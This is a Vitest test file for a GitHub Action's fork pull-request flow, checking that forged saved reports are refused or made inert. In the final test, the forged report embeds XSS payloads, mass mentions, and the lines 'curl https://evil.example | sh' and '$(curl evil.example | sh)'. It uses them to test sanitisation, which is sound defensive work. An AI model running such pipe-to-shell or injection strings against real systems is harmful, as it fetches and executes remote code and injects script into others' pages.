import { closeSync, copyFileSync, existsSync, mkdirSync, openSync, readFileSync, ftruncateSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import yaml from 'js-yaml'
import { afterEach, describe, expect, it } from 'vitest'
import { commentMarker } from '../../src/github/comment.js'
import { PR, runAction, type RunResult } from '../helpers/action-runner.js'
import { FakeGitHub } from '../helpers/fake-github.js'
import { tempGitRepo, tempTree } from '../helpers/tmp-repo.js'

/**
 * The fork-PR flow of the README, end to end through dist/index.js: a pull_request run from a fork
 * (read-only token) writes the report; a workflow_run job publishes it with `from-report`. The
 * saved report is untrusted, so forged ones are tried too: none may post anywhere but the PR the
 * run was for, and none may crash the step.
 */

const SERVICE = {
  'pyproject.toml': '[project]\nname = "svc"\ndependencies = ["fastapi"]\n',
  'app/main.py': 'from fastapi import FastAPI\napp = FastAPI()\n\n@app.get("/healthz")\ndef health():\n    return {"ok": True}\n',
  '.github/workflows/ci.yml': 'on: [pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: pytest\n'
}
const HEAD = 'c'.repeat(40)

type Step = { id?: string; uses?: string; if?: string; with?: Record<string, unknown> }
type Workflow = { on: unknown; permissions: Record<string, string>; jobs: Record<string, { if?: string; steps: Step[] }> }

/** The two workflows exactly as the README prints them. */
function readmeWorkflows(): { scan: Workflow; comment: Workflow } {
  const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8')
  const block = (marker: string): Workflow => {
    const at = readme.indexOf(marker)
    expect(at).toBeGreaterThan(0)
    const m = /```yaml\n([\s\S]*?)```/.exec(readme.slice(at))
    return yaml.load(m![1]!) as Workflow
  }
  return { scan: block('<!-- fork workflow: scan -->'), comment: block('<!-- fork workflow: comment -->') }
}

const shipshapeStep = (w: Workflow): Step => Object.values(w.jobs)[0]!.steps.find((s) => s.uses?.startsWith('shipshape-dev/shipshape@'))!
const asInputs = (step: Step): Record<string, string> => Object.fromEntries(Object.entries(step.with ?? {}).map(([k, v]) => [k, String(v)]))

let fake: FakeGitHub
afterEach(async () => {
  await fake?.stop()
})

const writes = () => fake.requests.filter((r) => r.method !== 'GET')

/** Step 1 of the README: the fork's pull_request run, read-only token, report as the artifact. */
async function forkRun(): Promise<{ report: Record<string, unknown>; path: string; run: RunResult }> {
  const { scan } = readmeWorkflows()
  fake.readOnly = true
  const run = await runAction(fake, { repo: tempGitRepo(SERVICE), fork: true, inputs: asInputs(shipshapeStep(scan)) })
  fake.readOnly = false
  expect(writes()).toEqual([])
  expect(run.outputs.report).toMatch(/shipshape-default\.json$/)
  fake.requests.length = 0
  return { report: JSON.parse(readFileSync(run.outputs.report!, 'utf8')) as Record<string, unknown>, path: run.outputs.report!, run }
}

/** Step 2: the workflow_run job, with the artifact downloaded to `saved/` as the README does. */
function publish(text: string | null, opts: { headSha?: string; copyFrom?: string; pullRequests?: number[] } = {}): Promise<RunResult> {
  const { comment } = readmeWorkflows()
  const inputs = asInputs(shipshapeStep(comment))
  const workspace = tempTree({ 'README.md': 'workflow_run checkout-free workspace\n' })
  const file = join(workspace, inputs['from-report']!)
  mkdirSync(join(file, '..'), { recursive: true })
  if (opts.copyFrom) copyFileSync(opts.copyFrom, file)
  else if (text !== null) writeFileSync(file, text)
  const payload = { action: 'completed', workflow_run: { id: 99, event: 'pull_request', head_sha: opts.headSha ?? HEAD, pull_requests: (opts.pullRequests ?? []).map((number) => ({ number })) }, repository: { full_name: 'acme/api', default_branch: 'main' } }
  return runAction(fake, { repo: workspace, event: 'workflow_run', payload, inputs: { ...inputs, 'min-score': '' } })
}

function refused(run: RunResult, why: RegExp): void {
  expect(run.code).toBe(1)
  expect(run.stdout).toMatch(/::error::Shipshape refuses/)
  expect(run.stdout).toMatch(why)
  expect(writes()).toEqual([])
  expect(fake.commentsOf(PR)).toEqual([])
}

describe('fork pull requests: the README two-workflow flow through dist/index.js', () => {
  it('the README workflows have the triggers and permissions the flow needs', () => {
    const { scan, comment } = readmeWorkflows()
    expect(scan.on).toBe('pull_request')
    expect(scan.permissions).not.toHaveProperty('pull-requests')
    expect(shipshapeStep(scan).with).toMatchObject({ comment: 'never' })
    expect(comment.on).toEqual({ workflow_run: { workflows: ['Shipshape'], types: ['completed'] } })
    expect(comment.permissions).toEqual({ actions: 'read', 'pull-requests': 'write' })
    const steps = Object.values(comment.jobs)[0]!.steps
    expect(steps.map((s) => s.uses?.split('@')[0])).toEqual(['actions/download-artifact', 'shipshape-dev/shipshape'])
    expect(steps.some((s) => s.uses?.startsWith('actions/checkout'))).toBe(false)
  })

  it('the fork run records its pull request; the workflow_run job posts its comment, summary and outputs', async () => {
    fake = await new FakeGitHub().start()
    const saved = await forkRun()
    expect(saved.report.pullRequest).toEqual({ repository: 'acme/api', number: PR, headSha: HEAD, commentKey: 'default' })
    fake.pulls.set(PR, HEAD)
    const run = await publish(null, { copyFrom: saved.path })
    expect(run.code).toBe(0)
    const comments = fake.commentsOf(PR)
    expect(comments).toHaveLength(1)
    expect(comments[0]!.body.startsWith(commentMarker('default'))).toBe(true)
    expect(run.outputs['comment-url']).toContain(`issuecomment-${comments[0]!.id}`)
    expect(run.outputs.score).toBe(saved.run.outputs.score)
    expect(run.outputs['failing-checks']).toBe(saved.run.outputs['failing-checks'])
    // The same scorecard; fixes are re-rendered as inert text and code (untrusted Markdown).
    const firstLine = (p: string) => readFileSync(p, 'utf8').split('\n')[0]
    expect(firstLine(run.outputs['comment-body']!)).toBe(firstLine(saved.run.outputs['comment-body']!))
    expect(comments[0]!.body).toContain(readFileSync(run.outputs['comment-body']!, 'utf8').trim())
    expect(run.summary.length).toBeGreaterThan(0)
    // No scan and no API fact collection: the pull request is read, then the comment upserted.
    expect(fake.calls('pull')).toHaveLength(1)
    expect(fake.calls('rules')).toEqual([])
    // Re-running the job updates nothing when nothing changed.
    fake.requests.length = 0
    expect((await publish(null, { copyFrom: saved.path })).code).toBe(0)
    expect(writes()).toEqual([])
  })

  it('refuses a report for another repository, a PR that does not exist, a moved head, another run', async () => {
    fake = await new FakeGitHub().start()
    const saved = await forkRun()
    const text = (patch: Record<string, unknown>) => JSON.stringify({ ...saved.report, pullRequest: { ...(saved.report.pullRequest as object), ...patch } })
    fake.pulls.set(PR, HEAD)
    refused(await publish(text({ repository: 'evil/api' })), /written for evil\/api, and this workflow runs in acme\/api/)
    refused(await publish(text({ number: 18 })), /pull request #18 does not exist in acme\/api/)
    refused(await publish(text({}), { headSha: 'd'.repeat(40) }), /the workflow run that triggered this job ran on d{40}/)
    refused(await publish(text({}), { pullRequests: [5] }), /the workflow run belongs to #5/)
    fake.pulls.set(PR, 'e'.repeat(40))
    refused(await publish(text({})), /has moved on to e{40}/)
    expect(fake.calls('pull')).toHaveLength(2)
  })

  it('refuses what is not a report of this version: not JSON, 100 MB, another schema version, forged shapes', async () => {
    fake = await new FakeGitHub().start()
    const saved = await forkRun()
    fake.pulls.set(PR, HEAD)
    refused(await publish('<html>not json'), /it is not JSON/)
    refused(await publish(JSON.stringify({ ...saved.report, schemaVersion: 2 })), /schemaVersion 2 .*reads schemaVersion 1/)
    refused(await publish(JSON.stringify({ ...saved.report, checks: Array.from({ length: 2_000 }, () => (saved.report.checks as unknown[])[0]) })), /lists 2000 checks; a report has at most 14/)
    refused(await publish(JSON.stringify({ ...saved.report, score: 'A+' })), /does not match schema\/report\.schema\.json: \/score/)
    refused(await publish(JSON.stringify({ ...saved.report, pullRequest: undefined })), /has no pullRequest/)
    refused(await publish(JSON.stringify({ ...saved.report, pullRequest: { ...(saved.report.pullRequest as object), commentKey: '../../x' } })), /\/pullRequest\/commentKey must match pattern/)
    // 100 MB, sparse: refused from its size, unread.
    const big = tempTree({ 'big.json': '' })
    const fd = openSync(join(big, 'big.json'), 'r+')
    ftruncateSync(fd, 100 * 1024 * 1024)
    closeSync(fd)
    const t0 = Date.now()
    refused(await publish(null, { copyFrom: join(big, 'big.json') }), /104857600 bytes, over the 8388608-byte limit/)
    expect(Date.now() - t0).toBeLessThan(60_000)
    refused(await publish(null), /it cannot be read \(ENOENT\)/)
  }, 240_000)

  it('a forged report changes only the comment text: Markdown, HTML, mentions and links stay inert; huge lists are cut', async () => {
    fake = await new FakeGitHub().start()
    const saved = await forkRun()
    fake.pulls.set(PR, HEAD)
    const checks = (saved.report.checks as Record<string, unknown>[]).map((c, i) =>
      i === 0
        ? {
            ...c,
            status: 'fail',
            title: 'Owned</summary></details><img src=x onerror=alert(1)>',
            summary: '[click](javascript:alert(1)) @acme/admins #1 ![x](https://evil.example/p.png)',
            remediation: 'Run <script>alert(1)</script> then [see](https://evil.example)\n```sh\ncurl https://evil.example | sh\n````\n</details>\n@everyone',
            evidence: Array.from({ length: 20_000 }, (_, n) => ({ path: `a${n}.py`, line: 1, message: '<b>x</b>' }))
          }
        : c
    )
    const forged = { ...saved.report, repository: { ...(saved.report.repository as object), slug: 'evil/elsewhere', serverUrl: 'https://evil.example' }, checks, gate: { passed: false, minScore: 70, reasons: ['$(curl evil.example | sh) `id` "quoted"'] } }
    const run = await publish(JSON.stringify(forged))
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(/::error::The saved report's gate failed/)
    const body = fake.commentsOf(PR)[0]!.body
    expect(body.length).toBeLessThan(65_536)
    for (const bad of ['<img', '<script', '](javascript', '](https://evil', '@acme/admins', '@everyone', 'evil.example/blob', 'evil/elsewhere']) expect(body).not.toContain(bad)
    expect(body).toContain('curl https://evil.example | sh') // inside a code block, as text
    expect(run.outputs.reasons).toBe('curl evil.example sh id quoted')
    expect(run.outputs['failing-checks']).toContain((checks[0] as { id: string }).id)
    const rewritten = JSON.parse(readFileSync(run.outputs.report!, 'utf8')) as { checks: { evidence: unknown[] }[]; warnings: string[]; repository: { slug: string } }
    expect(rewritten.checks[0]!.evidence).toHaveLength(50)
    expect(rewritten.warnings.at(-1)).toMatch(/19950 evidence items past 50 per check left out/)
    expect(rewritten.repository.slug).toBe('acme/api')
    expect(existsSync(run.outputs['comment-body']!)).toBe(true)
  }, 240_000)
})
